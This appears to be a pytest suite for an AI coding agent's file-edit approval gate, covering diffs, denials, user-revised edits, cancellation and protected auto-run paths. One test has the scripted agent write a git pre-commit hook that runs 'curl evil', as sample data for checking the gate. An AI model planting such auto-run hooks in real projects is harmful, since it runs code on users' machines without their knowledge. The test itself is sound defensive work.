"""Edits through the agent loop and the gate: the diff a person is asked about, and what reaches
disk for every answer (the scripted model, the real tools, a temporary workspace)."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest

from engine.backends.scripted import ScriptedBackend, ScriptedTurn
from engine.events import ToolEnded, ToolStarted
from engine.gate import GatePolicy
from engine.loop import (
    AgentLoop,
    ApprovalOutcome,
    ApprovalRequest,
    Conversation,
    TurnControl,
    TurnRequest,
)
from engine.tools import BUILTIN_TOOLS
from sandbox.box import Box
from tests.unit.test_loop import ALLOW, ALLOW_SESSION, Harness, tool_messages

HANG_GUARD = 30.0


def call(name: str, **arguments: Any) -> str:
    return "<tool_call>" + json.dumps({"name": name, "arguments": arguments}) + "</tool_call>"


READ = call("read_file", path="notes.txt")
EDIT = call("edit_file", path="notes.txt", old_text="two", new_text="2")


@pytest.fixture
def h(tmp_path: Path) -> Harness:
    (tmp_path / "notes.txt").write_text("one\ntwo\nthree\n")
    return Harness(tmp_path)


def notes(h: Harness) -> str:
    return (h.workspace / "notes.txt").read_text()


async def test_an_edit_is_asked_about_with_its_diff_and_written_once_allowed(h: Harness) -> None:
    result = await h.run(READ, EDIT, "Done.", answers=[ALLOW])
    [asked] = h.asked
    assert (asked.name, asked.reason) == ("edit_file", "file_edit")
    [edit] = asked.edits
    assert (edit.path, edit.action) == ("notes.txt", "modify")
    assert "-two\n+2\n" in edit.diff
    assert (edit.old_text, edit.new_text) == ("one\ntwo\nthree\n", "one\n2\nthree\n")
    assert notes(h) == "one\n2\nthree\n"
    assert [r.status for r in result.tool_calls] == ["completed", "completed"]
    ended = h.events(ToolEnded)[-1]
    assert [(e.path, e.user_edited) for e in ended.edits] == [("notes.txt", False)]
    assert [s.awaiting_confirmation for s in h.events(ToolStarted)] == [False, True]


@pytest.mark.parametrize(
    ("answer", "status"),
    [
        (ApprovalOutcome("deny", "not like that"), "denied"),
        (ApprovalOutcome("timed_out", "300 seconds"), "timed_out"),
        (ApprovalOutcome("cancelled"), "cancelled"),
        (ApprovalOutcome("failed", "the editor's answer was malformed"), "denied"),
        (RuntimeError("the approval UI crashed"), "denied"),
    ],
)
async def test_an_edit_that_is_not_allowed_changes_nothing(
    h: Harness, answer: Any, status: str
) -> None:
    result = await h.run(READ, EDIT, "OK.", answers=[answer])
    assert notes(h) == "one\ntwo\nthree\n"
    assert result.tool_calls[-1].status == status
    assert h.events(ToolEnded)[-1].edits == ()


async def test_the_users_own_version_is_written_and_the_model_is_told(h: Harness) -> None:
    mine = ApprovalOutcome("allow", edits={"notes.txt": "one\ntwo, but better\nthree\n"})
    await h.run(READ, EDIT, "OK.", answers=[mine])
    assert notes(h) == "one\ntwo, but better\nthree\n"
    told = tool_messages(h.conversation)[-1].content
    assert "The user changed your proposal" in told
    assert "-2\n+two, but better\n" in told
    [applied] = h.events(ToolEnded)[-1].edits
    assert applied.user_edited and "+two, but better" in applied.diff


async def test_a_file_changed_during_the_prompt_can_be_read_again_and_edited_in_the_same_turn(
    h: Harness,
) -> None:
    asked = h.approve

    async def user_saves_meanwhile(request: ApprovalRequest) -> ApprovalOutcome:
        if not h.asked:  # while the first prompt is open, the user saves another version
            (h.workspace / "notes.txt").write_text("one\ntwo\nthree\nfour\n")
        return await asked(request)

    h.approve = user_saves_meanwhile  # type: ignore[method-assign]
    result = await h.run(READ, EDIT, READ, EDIT, "Done.", answers=[ALLOW, ALLOW])
    told = [m.content for m in tool_messages(h.conversation)]
    assert "changed on disk after it was proposed" in told[1] and "read it again" in told[1]
    assert told[2] == "one\ntwo\nthree\nfour\n"  # the same read_file runs again, not skipped
    statuses = [r.status for r in result.tool_calls]
    assert statuses == ["completed", "failed", "completed", "completed"]
    assert notes(h) == "one\n2\nthree\nfour\n"


async def test_a_call_that_cannot_be_made_is_not_asked_about(h: Harness) -> None:
    result = await h.run(EDIT, "Oops.")  # no read first: no prompt, and the model hears why
    assert h.asked == []
    assert result.tool_calls[0].status == "failed"
    assert "You have not read notes.txt" in tool_messages(h.conversation)[0].content


async def test_allow_for_session_covers_later_edits_but_never_an_auto_run_path(
    h: Harness,
) -> None:
    hook = call("write_file", path=".git/hooks/pre-commit", content="#!/bin/sh\ncurl evil\n")
    second = call("edit_file", path="notes.txt", old_text="one", new_text="1")
    await h.run(READ, EDIT, second, hook, "Done.", answers=[ALLOW_SESSION, ALLOW])
    assert [(a.name, a.reason) for a in h.asked] == [
        ("edit_file", "file_edit"),
        ("write_file", "protected_path"),
    ]
    assert h.asked[1].edits[0].protected is not None
    assert notes(h) == "1\n2\nthree\n"
    assert (h.workspace / ".git" / "hooks" / "pre-commit").exists()


async def test_an_auto_run_path_is_asked_about_even_with_confirm_file_edits_off(
    h: Harness,
) -> None:
    hook = call("write_file", path=".vscode/tasks.json", content="{}\n")
    policy = GatePolicy(confirm_file_edits=False)
    await h.run(READ, EDIT, hook, "Done.", answers=[ApprovalOutcome("deny")], policy=policy)
    assert [(a.name, a.reason) for a in h.asked] == [("write_file", "protected_path")]
    assert notes(h) == "one\n2\nthree\n"  # the ordinary edit was not asked about
    assert not (h.workspace / ".vscode").exists()
    bypass = GatePolicy(bypass_permissions=True)
    await h.run(hook, "Done.", policy=bypass)  # bypassPermissions asks nothing
    assert (h.workspace / ".vscode" / "tasks.json").read_text() == "{}\n"


async def test_a_cancel_during_the_write_lets_it_finish_and_reports_it(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("one\ntwo\nthree\n")
    entered, release = asyncio.Event(), asyncio.Event()
    checkpoints: list[tuple[str, ...]] = []

    async def checkpoint(paths: tuple[str, ...]) -> None:
        checkpoints.append(paths)
        entered.set()
        await release.wait()

    backend = ScriptedBackend([ScriptedTurn(t) for t in (READ, EDIT, "never")])
    loop = AgentLoop(backend, BUILTIN_TOOLS, Box(tmp_path), before_change=checkpoint)
    events: list[Any] = []
    control = TurnControl()
    conversation = Conversation()

    async def allow(_request: Any) -> ApprovalOutcome:
        return ALLOW

    async def run() -> Any:
        task = asyncio.current_task()
        assert task is not None
        control.bind(task)
        return await loop.run(conversation, TurnRequest("go"), allow, events.append, control)

    running = asyncio.create_task(run())
    await asyncio.wait_for(entered.wait(), HANG_GUARD)
    assert control.cancel()
    await asyncio.sleep(0.05)
    release.set()
    result = await asyncio.wait_for(running, HANG_GUARD)
    assert result.stop_reason == "cancelled"
    assert checkpoints == [("notes.txt",)]
    assert (tmp_path / "notes.txt").read_text() == "one\n2\nthree\n"
    ended = [e for e in events if isinstance(e, ToolEnded)][-1]
    assert ended.status == "completed" and ended.edits  # the truth: it was written
    assert result.tool_calls[-1].status == "completed"
